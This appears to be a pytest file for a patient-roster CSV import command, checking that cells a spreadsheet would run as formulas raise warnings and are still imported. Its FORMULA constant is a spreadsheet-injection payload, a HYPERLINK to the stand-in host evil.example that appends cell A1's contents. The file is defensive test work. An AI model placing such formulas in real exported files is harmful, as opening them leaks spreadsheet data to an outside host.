"""`roster import` warns about text a spreadsheet would run as a formula, and imports it."""

from __future__ import annotations

from pathlib import Path

from flask.testing import FlaskCliRunner
from sqlalchemy import select

from grids.models import Patient
from grids.storage.database import Database
from tests.support.roster_files import PATIENTS_HEADER, small_roster

FORMULA = '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"'


def test_formula_names_get_one_warning_line_per_row(
    runner: FlaskCliRunner, db: Database, tmp_path: Path
) -> None:
    files = small_roster(
        tmp_path,
        patients=(
            PATIENTS_HEADER,
            f"P1,{FORMULA},13900000011,V1,高血压,1952,F,y",
            "P2,李建国,13900000012,V1,hypertension,1948,M,n",
            "@P3,-王桂兰,+8613900000013,V2,糖尿病,1960,女,",
        ),
    )
    command = ["roster", "import"]
    for kind, path in files.given():
        command += [f"--{kind}", str(path)]
    result = runner.invoke(args=command)
    assert result.exit_code == 0, result.output
    warnings = result.stderr.splitlines()
    assert len(warnings) == 2
    assert warnings[0].startswith("patients.csv 第2行：")
    assert "姓名" in warnings[0] or "name" in warnings[0]
    assert warnings[1].startswith("patients.csv 第4行：")
    assert "phone" not in warnings[1]
    with db.unit_of_work() as session:
        names = set(session.scalars(select(Patient.name)))
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点我")' in names
